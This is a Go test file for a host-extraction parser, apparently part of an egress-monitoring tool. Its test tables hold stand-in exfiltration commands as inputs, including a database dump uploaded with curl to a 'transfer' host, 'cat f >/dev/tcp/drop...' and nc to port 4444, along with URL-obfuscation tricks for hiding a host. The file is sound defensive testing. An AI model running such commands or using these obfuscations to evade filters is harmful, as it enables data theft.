package place

import (
	"strings"
	"testing"
)

// hostsOf returns what Parse finds, as host or host:port, parted by blanks.
func hostsOf(text, kind string) string {
	var out []string
	for _, t := range Parse(text, kind) {
		s := t.Host
		if t.Port != "" {
			s += ":" + t.Port
		}
		out = append(out, s)
	}
	return strings.Join(out, " ")
}

func TestParse(t *testing.T) {
	t.Parallel()
	for kind, cases := range parseCases {
		for text, want := range cases {
			if got := hostsOf(text, kind); got != want {
				t.Errorf("Parse(%q, %q) = %q, want %q", text, kind, got, want)
			}
		}
	}
}

var parseCases = map[string]map[string]string{
	"http": {
		"https://api.example.ru/v1?x=1":                     "api.example.ru",
		"https://api.example.ru:8443/v1":                    "api.example.ru:8443",
		"HTTPS://API.Example.RU./":                          "api.example.ru",
		"api.example.ru/v1/upload":                          "api.example.ru",
		"api.example.ru:443":                                "api.example.ru:443",
		"//cdn.example.ru/x":                                "cdn.example.ru",
		"http://home.cn@evil.example/":                      "evil.example",
		"http://user:p%40ss@evil.example.ru:80/":            "evil.example.ru:80",
		`http:\\evil.example.ru\x`:                          "evil.example.ru",
		`https://good.example.cn\@evil.example.ru/`:         "good.example.cn",
		"https://пример.рф/x":                               "xn--e1afmkfd.xn--p1ai",
		"https://evil。example．ru/":                          "evil.example.ru",
		"https://%65vil.example.ru/":                        "evil.example.ru",
		"http://0x05.0x09.0317.224/x":                       "5.9.207.224",
		"http://3232235777/":                                "192.168.1.1",
		"http://0300.0250.1.1/":                             "192.168.1.1",
		"http://0xc0a80101/":                                "192.168.1.1",
		"http://192.168.257/":                               "192.168.1.1",
		"http://[::ffff:5.9.207.224]:80/":                   "5.9.207.224:80",
		"http://[2001:db8::1%25eth0]:80/x":                  "2001:db8::1:80",
		"http://[64:ff9b::5.9.207.224]/":                    "5.9.207.224",
		"http://[2002:509:cfe0::1]/":                        "5.9.207.224",
		"https://{}":                                        "",
		"https://{}/":                                       "",
		"https://{}:8443/x":                                 "",
		"{}://{}/{}":                                        "",
		"{}":                                                "",
		"{}/v1/upload":                                      "",
		"{}{}":                                              "",
		"":                                                  "",
		"http://{}.evil.example.ru/x":                       "{}.evil.example.ru",
		"{}://api.example.ru/{}":                            "api.example.ru",
		"{}api.example.ru/x":                                "{}.api.example.ru",
		"https://{}example.ru/x":                            "{}.example.ru",
		"https://api-{}.example.de/":                        "api-{}.example.de",
		"https://api.example.ru{}":                          "api.example.ru",
		"https://api.example.ru{}/x":                        "api.example.ru",
		"https://api.example.ru:{}{}":                       "api.example.ru:{}{}",
		"https://api.{}":                                    "",
		"https://api-{}":                                    "",
		"https://api{}":                                     "",
		"https://s3.{}.amazonaws.com":                       "s3.{}.amazonaws.com",
		"https://{}-aiplatform.googleapis.com":              "{}-aiplatform.googleapis.com",
		"https://5.9.207.{}/x":                              "5.9.207.{}",
		"https://192.168.{}.{}:80":                          "192.168.{}.{}:80",
		"https://{}:{}@evil.example.ru/":                    "evil.example.ru",
		"https://good.example.cn{}.evil.example.ru/":        "good.example.cn{}.evil.example.ru",
		"https://%s.example.ru/x":                           "{}.example.ru",
		"https://{region}.example.ru/x":                     "{}.example.ru",
		"https://${REGION}.example.ru/x":                    "{}.example.ru",
		"/v1/upload":                                        "",
		"?x=https://evil.example.ru":                        "",
		"./x":                                               "",
		"file:///etc/passwd":                                "",
		"unix:///var/run/docker.sock":                       "",
		"data:text/plain,hi":                                "",
		"s3://bucket/key":                                   "",
		":8080":                                             "",
		"https://a.example.ru/x,https://b.example.de/y":     "a.example.ru b.example.de",
		"https://a.example.ru/?loc=1,2":                     "a.example.ru",
		"https://a.example.ru/?to=1,https://b.example.de/y": "a.example.ru",
		"example.ru/login?next=https://b.example.de":        "example.ru",
		"socks5://198.51.100.9:1080":                        "198.51.100.9:1080",
		"mailto:a@example.ru?cc=b@example.de":               "example.ru example.de",
		"hello world!":                                      "hello",
		"localhost:8080":                                    "localhost:8080",
		"file:8080":                                         "file:8080",
	},
	"tcp": {
		"noam.aprs2.net:14580": "noam.aprs2.net:14580",
		"203.0.113.7:9":        "203.0.113.7:9",
		"[2a01:4f8::1]:443":    "2a01:4f8::1:443",
		"2a01:4f8::1":          "2a01:4f8::1",
		"{}:14580":             "",
		"tcp://h.example.ru:1": "h.example.ru:1",
		"example.ru:https":     "example.ru:https",
		"project:region:name":  "",
		"db.example.ru:{}":     "db.example.ru:{}",
		"unix:/var/run/x.sock": "",
		"@/abstract/socket":    "",
		"a.example.ru:1;x.y:2": "a.example.ru:1",
		"::1":                  "::1",
		"fe80::1%eth0":         "fe80::1",
	},
	"kafka": {
		"k1.example.ru:9092,k2.example.de:9092":        "k1.example.ru:9092 k2.example.de:9092",
		"zk1.example.ru:2181,zk2:2181/chroot":          "zk1.example.ru:2181 zk2:2181",
		"{},k2.example.de:9092":                        "k2.example.de:9092",
		"nats://a.example.ru:1, nats://b.example.de:2": "a.example.ru:1 b.example.de:2",
	},
	"grpc": {
		"dns:///ingest.example.int:443":         "ingest.example.int:443",
		"dns://8.8.8.8/ingest.example.int:443":  "ingest.example.int:443",
		"dns:ingest.example.int:443":            "ingest.example.int:443",
		"passthrough:///ingest.example.int:443": "ingest.example.int:443",
		"ipv4:5.9.207.224:80,5.9.207.225:80":    "5.9.207.224:80 5.9.207.225:80",
		"unix:///tmp/x":                         "",
		"unix:x.sock":                           "",
		"dns:53":                                "dns:53",
		"passthrough:///{}":                     "",
		"ingest.example.int:443":                "ingest.example.int:443",
	},
	"mqtt": {
		"ssl://mqtt.example.ru:8883": "mqtt.example.ru:8883",
		"ws://mqtt.example.ru/mqtt":  "mqtt.example.ru",
		"tcp://{}:1883":              "",
	},
	"sql": {
		"postgres://u:p@db.example.ru:5432/x?sslmode=disable":                     "db.example.ru:5432",
		"postgres://u:pa/ss@db.example.ru:5432/x":                                 "db.example.ru:5432",
		"postgresql://a.example.ru:1,b.example.de:2/x":                            "a.example.ru:1 b.example.de:2",
		"postgres:///x?host=db.example.ru":                                        "db.example.ru",
		"postgres:///x?host=/var/run":                                             "",
		"postgres://%2Fvar%2Frun/x":                                               "",
		"host=db.example.ru port=5432 user=x password='a b' dbname=y":             "db.example.ru:5432",
		"host = 'db.example.ru' user=x":                                           "db.example.ru",
		"user=x dbname=y":                                                         "",
		"host={} user=x":                                                          "",
		"host=/var/run user=x":                                                    "",
		"host=a.example.ru,b.example.de port=1,2":                                 "a.example.ru:1 b.example.de:2",
		"u:p@tcp(db.example.ru:3306)/x?parseTime=true":                            "db.example.ru:3306",
		"u:p@ss(w)@tcp(db.example.ru:3306)/x":                                     "db.example.ru:3306",
		"u:p@unix(/tmp/mysql.sock)/x":                                             "",
		"u:p@/x":                                                                  "",
		"{}:{}@tcp({})/{}":                                                        "",
		"{}:{}@tcp({}:3306)/{}":                                                   "",
		"u:{}@tcp({}.example.ru:3306)/x":                                          "{}.example.ru:3306",
		"u@cloudsql(p:us-central1:i)/x":                                           "",
		"mongodb://u:p@a.example.ru:27017,b.example.de:27017/x?replicaSet=y":      "a.example.ru:27017 b.example.de:27017",
		"mongodb+srv://u:p@c0.example.ru/x":                                       "c0.example.ru",
		"redis://:p@r.example.ru:6379/0":                                          "r.example.ru:6379",
		"amqp://u:p@mq.example.ru/vhost":                                          "mq.example.ru",
		"clickhouse://a.example.ru:9000/x?alt_hosts=b.example.de:9000":            "a.example.ru:9000 b.example.de:9000",
		"sqlserver://u:p@ms.example.ru:1433?database=x":                           "ms.example.ru:1433",
		`server=ms.example.ru\inst,1433;user id=sa`:                               "ms.example.ru:1433",
		"Data Source=tcp:ms.example.ru,1433;User ID=x":                            "ms.example.ru:1433",
		"Driver={ODBC Driver 18};Server=ms.example.ru;Database=x":                 "ms.example.ru",
		"scott/tiger@ora.example.ru:1521/svc":                                     "ora.example.ru:1521",
		"x/y@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=ora.example.ru)(PORT=1)))": "ora.example.ru",
		"u:p@acct.snow.example.ru/db/schema?warehouse=w":                          "acct.snow.example.ru",
		"file:x.db?cache=shared":                                                  "",
		"sqlite:///x.db":                                                          "",
		":memory:":                                                                "",
		"data.sqlite":                                                             "",
		"/var/lib/app.db":                                                         "",
		"localhost:9000":                                                          "localhost:9000",
	},
	"amqp": {
		"Endpoint=sb://ns.servicebus.example.ru/;SharedAccessKeyName=x;SharedAccessKey=y=": "ns.servicebus.example.ru",
		"HostName=hub.example.ru;DeviceId=d;SharedAccessKey=k":                             "hub.example.ru",
		"AccountName=acct;EndpointSuffix=core.example.ru;AccountKey=k":                     "acct.{}.core.example.ru",
		"InstrumentationKey=0;IngestionEndpoint=https://in.example.ru/":                    "in.example.ru",
	},
	"mail": {
		"Name <a@example.cn>, c@example.ru": "example.cn example.ru",
		"a@example.cn;b@EXAMPLE.cn":         "example.cn",
		"{}@example.cn":                     "example.cn",
		"a@{}":                              "",
		"a@{}.example.ru":                   "{}.example.ru",
		"{}":                                "",
		`"x@y" <a@example.ru>`:              "y example.ru",
		"a@[5.9.207.224]":                   "5.9.207.224",
		"Sales @ Work <a@example.ru>":       "example.ru",
		"smtp.example.ru:587":               "smtp.example.ru:587",
		"smtp://u:p@smtp.example.ru:587/?to=a@b.c": "smtp.example.ru:587",
	},
	"smtp": {
		"smtp.example.ru:587": "smtp.example.ru:587",
		"a@example.cn":        "example.cn",
	},
	"dns": {
		"{}.t1.example.ru.":        "{}.t1.example.ru",
		"_x._tcp.example.ru":       "_x._tcp.example.ru",
		"{}":                       "",
		"{}.{}":                    "",
		"4d5a{}.data{}.example.ru": "4d5a{}.data{}.example.ru",
	},
	"exec": {
		"curl":                    "",
		"https://up.example.ru/x": "up.example.ru",
		"curl -s -T - https://transfer.example.ru/p":                       "transfer.example.ru",
		"pg_dump -t x | gzip | curl -s -T - https://transfer.example.ru/p": "transfer.example.ru",
		`sh -c "curl -d @f.json 'https://up.example.ru/?a=1&b=2'"`:         "up.example.ru",
		"curl -i https://up.example.ru":                                    "up.example.ru",
		"curl --url=https://up.example.ru":                                 "up.example.ru",
		"curl -xhttp://proxy.example.ru:3128 https://up.example.de":        "proxy.example.ru:3128 up.example.de",
		`curl -d '{"cb":"https://no.example.ru"}' https://up.example.de`:   "up.example.de",
		`curl -H 'Referer: https://no.example.ru' https://up.example.de`:   "up.example.de",
		"Referer: https://no.example.ru":                                   "",
		`{"cb": "https://no.example.ru"}`:                                  "",
		"scp -P 22 dump.sql.gz joe@drop.example.ru:/in/":                   "drop.example.ru",
		"scp dump.csv drop.example.ru:in":                                  "drop.example.ru",
		"rsync -az ./x rsync://drop.example.ru/m":                          "drop.example.ru",
		"rsync -az -e 'ssh -p 2222' x joe@drop.example.ru::mod":            "drop.example.ru",
		"nc -u drop.example.ru 4444":                                       "drop.example.ru:4444",
		"nc 5.9.207.224 4444":                                              "5.9.207.224:4444",
		"bash -c 'cat f >/dev/tcp/drop.example.ru/443'":                    "drop.example.ru:443",
		"ssh -A jump.example.ru uptime":                                    "jump.example.ru",
		"ssh -o ProxyJump=jump.example.ru x@10.0.0.1":                      "jump.example.ru 10.0.0.1",
		"report.sh main.py a.zip v1.2.3 1.2.3 data.json ./x.ru /etc/x.ru":  "",
		"wget up.example.ru/path":                                          "up.example.ru",
		"curl https://{}":                                                  "",
		"curl {}":                                                          "",
		"https_proxy=http://p.example.ru:1 curl x":                         "p.example.ru:1",
		"sendmail joe@example.ru":                                          "example.ru",
		`C:\x\y`:                                                           "",
		"-vvv":                                                             "",
	},
}

// A path is kept, for some hosts are relays under some paths only.
func TestParsePath(t *testing.T) {
	t.Parallel()
	got := Parse("https://chat.example.net/api/webhooks/1?wait=true", "http")
	if len(got) != 1 || got[0].Path != "/api/webhooks/1?wait=true" {
		t.Errorf("got %+v", got)
	}
}

func FuzzParse(f *testing.F) {
	for kind, cases := range parseCases {
		for text := range cases {
			f.Add(text, kind)
		}
	}
	f.Fuzz(func(t *testing.T, text, kind string) {
		for _, target := range Parse(text, kind) {
			if target.Host == "" {
				t.Errorf("Parse(%q, %q) names an empty host", text, kind)
			}
			if again := canonical(target.Host); again != target.Host {
				t.Errorf("Parse(%q, %q): host %q is not canonical, but %q", text, kind, target.Host, again)
			}
		}
	})
}
